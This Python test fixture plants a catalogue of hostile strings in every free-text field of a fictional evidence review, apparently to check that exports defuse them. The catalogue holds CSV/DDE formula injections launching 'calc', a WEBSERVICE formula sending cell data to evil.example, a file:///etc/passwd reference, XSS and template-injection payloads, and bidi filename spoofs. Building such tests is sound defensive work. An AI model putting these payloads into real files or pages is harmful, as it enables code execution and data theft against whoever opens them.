"""Texts that would be something else than text, and a review that holds each of them in every field of free text."""

from __future__ import annotations

import dataclasses
import datetime as dt
import json
from functools import cache
from typing import Any

from weigh.audit.audit import audit
from weigh.evidence.model import Acceptance, Place, Record
from weigh.evidence.review import TABLES, Review

#: What a program may take for more than text, and what a person then reads in a document; None: it is cut.
HOSTILE_TEXTS: dict[str, tuple[str, str | None]] = {
    name: (text, text)
    for name, text in {
        "formula": '=HYPERLINK("https://evil.example","here")',
        "sum": "=1+1",
        "array": "{=SUM(1,1)}",
        "plus": "+1+cmd|' /C calc'!A0",
        "minus": "-2+3+cmd|' /C calc'!A0",
        "at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "full-width-equals": "\uff1d1+1",
        "full-width-plus": "\uff0b1+1",
        "full-width-minus": "\uff0d1+1",
        "full-width-at": "\uff20SUM(1+1)",
        "tab": "\t=1+1",
        "line": "\n=1+1",
        "space": "  =1+1",
        "apostrophe": "'=1+1",
        "external": "='file:///etc/passwd'#$passwd.A1",
        "web": '=WEBSERVICE("https://evil.example/?x="&A1)',
        "error": "#REF!",
        "not-available": "#N/A",
        "na": "NA",
        "none": "None",
        "true": "TRUE",
        "zeros": "00797",
        "exponent": "1e5",
        "date": "1-2",
        "gene": "SEPT2",
        "interval": "-0.5 to 0.3",
        "escape": "_x003D_1+1",
        "markup": "<img src=x onerror=alert(1)>",
        "script": "</w:t><script>alert(1)</script>",
        "entity": "&lt;b&gt; &amp; &#61;1+1",
        "cdata": "]]><!-- x -->",
        "template": "{{ 7*7 }} ${7*7} %s %n",
        "field": '{ INCLUDETEXT "https://evil.example" } TOC \\o',
        "address": "javascript:alert(1) https://evil.example",
        "quotes": '","=1+1","',
        "emoji": "\U0001f9ea\U0001f468\U0001f3fd trial",
        "homoglyph": "p\u0430in relief",
    }.items()
} | {
    "bidi": ("note \u202egnp.exe", "note <U+202E>gnp.exe"),
    "hidden": ("\u200b\ufeff=1+1\x07\uffff", "<U+200B><U+FEFF>=1+1<U+0007><U+FFFF>"),
    "carriage": ("\r=1+1", "<U+000D>=1+1"),
    "endless": ("bell" * 10_000, None),
}


@cache
def free_columns(descriptor: str) -> dict[str, tuple[str, ...]]:
    """The columns of each table that may hold any text: no id, no key, no closed list, and not what an instrument closes."""
    closed = {"included_in", "position", "tool", "domain", "judgement", "judged_by", "p_value"}
    return {
        resource["name"]: tuple(
            each["name"]
            for each in resource["schema"]["fields"]
            if each["type"] == "string"
            and not {"enum", "pattern"} & each.get("constraints", {}).keys()
            and each["name"] not in closed
        )
        for resource in json.loads(descriptor)["resources"]
        if resource["name"] in TABLES
    }


def hostile_review(mini: Review, *, without: tuple[str, ...] = ()) -> Review:
    """The fictional review with, for each text, a conclusion, a study, an outcome and all else whose free text it is.

    The conclusions have no study of their own; the studies are cited for one that was there.
    """
    texts = {name: text for name, (text, _shown) in HOSTILE_TEXTS.items() if name not in without}
    free = free_columns((mini.folder / "evidence/datapackage.json").read_text(encoding="utf-8"))
    first: dict[str, Any] = {
        "conclusions": mini.conclusions["humming-ear"],
        "citations": mini.citations[0],
        "studies": mini.studies["ardenwood-2011"],
        "outcomes": mini.outcomes[0],
        "appraisals": mini.appraisals[0],
        "certainty": mini.certainty[0],
        "codes": mini.codes[0],
        "candidates": mini.candidates[0],
    }
    references = dict(mini.references)
    made: dict[str, list[Record]] = {name: [] for name in first}
    for name, text in texts.items():
        ids = {
            "conclusions": {"conclusion_id": f"c-{name}", "parent_id": None},
            "citations": {"citation_id": f"ci-{name}", "citation_key": f"key-{name}", "conclusion_id": "stiff-joints"},
            "studies": {"study_id": f"s-{name}", "citation_keys": (f"key-{name}",)},
            "outcomes": {"outcome_id": f"o-{name}", "study_id": f"s-{name}"},
            "appraisals": {"study_id": f"s-{name}"},
            "certainty": {"conclusion_id": f"c-{name}", "domain": "overall", "judgement": "low"},
            "codes": {"row_id": f"r-{name}", "conclusion_id": f"c-{name}"},
            "candidates": {"candidate_id": f"k-{name}", "conclusion_id": f"c-{name}"},
        }
        for table, row in first.items():
            planted = {column: text for column in free[table] if column not in ids[table]}
            made[table].append(dataclasses.replace(row, **(planted | ids[table])))
        references[f"key-{name}"] = dataclasses.replace(
            mini.references["ardenwood2011"],
            key=f"key-{name}",
            authors=((text, "Q."),),
            title=text,
            fields={"title": text, "journal": text, "note": text, "year": "2011", "doi": "10.9999/x"},
        )
    hostile = HOSTILE_TEXTS["formula"][0]
    return dataclasses.replace(
        mini,
        guideline=dataclasses.replace(
            mini.guideline, subject=hostile, publisher=hostile, status=hostile, text_note=hostile
        ),
        references=references,
        conclusions=mini.conclusions | {row.conclusion_id: row for row in made["conclusions"]},
        studies=mini.studies | {row.study_id: row for row in made["studies"]},
        **{
            table: (*getattr(mini, table), *rows)
            for table, rows in made.items()
            if table not in ("conclusions", "studies")
        },
    )


def hostile_everywhere(mini: Review) -> Review:
    """The same, and each text in the tables of the whole review too: history, devices, glossary, lists, criteria, accepted."""
    review = hostile_review(mini)
    free = free_columns((mini.folder / "evidence/datapackage.json").read_text(encoding="utf-8"))
    keys = {"history": "history_id", "devices": "device_id", "glossary": "term_id", "criteria": "criterion_id"}
    more: dict[str, tuple[Record, ...]] = {}
    for table, key in keys.items():
        first = next(row for row in getattr(review, table) if table != "criteria" or row.kind.value == "fact")
        rows = [
            dataclasses.replace(
                first, **(dict.fromkeys(free[table], text) | {key: f"x-{name}", **_later(table, number)})
            )
            for number, (name, (text, _shown)) in enumerate(HOSTILE_TEXTS.items())
        ]
        more[table] = (*getattr(review, table), *rows)
    more["listings"] = tuple(
        dataclasses.replace(review.listings[0], number=1000 + number, **dict.fromkeys(free["listings"], text))
        for number, (text, _shown) in enumerate(HOSTILE_TEXTS.values())
    )
    found = audit(review).open
    more["accepted"] = tuple(
        Acceptance(
            place=Place("evidence/accepted.csv", 2 + number),
            code=finding.code,
            subject=finding.subject,
            reason=text,
            who=text,
            when=dt.date(2024, 1, 1),
            facts=None,
        )
        for number, (finding, (text, _shown)) in enumerate(zip(found, HOSTILE_TEXTS.values(), strict=False))
    )
    return dataclasses.replace(review, **more)  # type: ignore[arg-type]


def _later(table: str, number: int) -> dict[str, int]:
    return {"position": 1000 + number} if table == "criteria" else {}
